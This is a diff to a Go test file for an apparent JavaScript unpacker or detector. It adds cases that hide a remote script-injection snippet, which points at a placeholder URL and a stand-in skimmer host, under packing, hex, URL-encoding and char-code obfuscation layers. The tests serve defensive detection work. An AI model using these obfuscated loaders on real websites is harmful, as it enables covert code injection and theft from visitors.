@@ -38,6 +38,18 @@ func pack(src string, radix int) string {
 		payload, radix, len(words), strings.Join(words, "|"))
 }
 
+// escapedPack packs src with its payload and word list written as \xHH
+// strings, as some packers do.
+func escapedPack(src string) string {
+	packed := pack(src, 62)
+	a := strings.Index(packed, "}('") + 3
+	b := strings.Index(packed, "',62,")
+	w0 := strings.LastIndex(packed, ",'") + 2
+	w1 := strings.Index(packed, "'.split(")
+	payload := strings.NewReplacer(`\\`, `\`, `\'`, `'`).Replace(packed[a:b])
+	return packed[:a] + hexEsc(payload, 1) + packed[b:w0] + hexEsc(packed[w0:w1], 1) + packed[w1:]
+}
+
 func TestPacker(t *testing.T) {
 	t.Parallel()
 	script := "var s=document.createElement('script');s.src='" + testURL + "';document.head.appendChild(s);"
@@ -56,7 +68,19 @@ func TestPacker(t *testing.T) {
 		{name: "packed hex escapes", in: pack(`var u='\x68\x74\x74\x70\x73://skim.evil-cdn.example';`, 62), chain: "packer>hex-escape", text: "https://skim.evil-cdn.example"},
 		{name: "base64 of packed", in: "eval(atob('" + b64(packed) + "'))", chain: "base64>packer", text: testURL},
 
+		{name: "escaped payload and words", in: escapedPack(script), chain: "hex-escape>packer", text: testURL},
+		{name: "split in brackets", in: strings.Replace(packed, ".split('|')", "['split']('|')", 1), chain: "packer", text: testURL},
+		{name: "escaped split in brackets", in: strings.Replace(packed, ".split('|')", `["\x73\x70\x6c\x69\x74"]("\x7c")`, 1), chain: "packer", text: testURL},
+		{name: "eval by bracket", in: "this['eval'](" + strings.TrimPrefix(packed, "eval("), chain: "packer", text: testURL, at: "this['eval'](" + strings.TrimPrefix(packed, "eval(")},
+		{name: "window.eval", in: "window.eval(" + strings.TrimPrefix(packed, "eval("), chain: "packer", text: testURL},
+		{name: "in a hex-escaped string", in: "eval('" + hexEsc(packed, 1) + "')", chain: "hex-escape>packer", text: testURL},
+		{name: "in a url-encoded string", in: "eval(unescape('" + percentAll(packed) + "'))", chain: "url-encoded>packer", text: testURL},
+		{name: "in char codes", in: "eval(String.fromCharCode(" + codes(packed, false) + "))", chain: "charcode>packer", text: testURL},
+		{name: "packed twice", in: pack(packed, 62), chain: "packer>packer", text: testURL},
+		{name: "escaped, packed twice", in: escapedPack(packed), chain: "hex-escape>packer>packer", text: testURL},
+
 		{name: "plain eval", in: "eval(function(){return 1}())"},
+		{name: "word list not a literal", in: "run(function(p,a,c,k,e,d){return p}('0 1',62,2,x,0,{}))"},
 		{name: "truncated", in: packed[:len(packed)/2]},
 		{name: "no split", in: "eval(function(p,a,c,k,e,d){return p}('0 1',62,2,'a|b',0,{}))"},
 	}
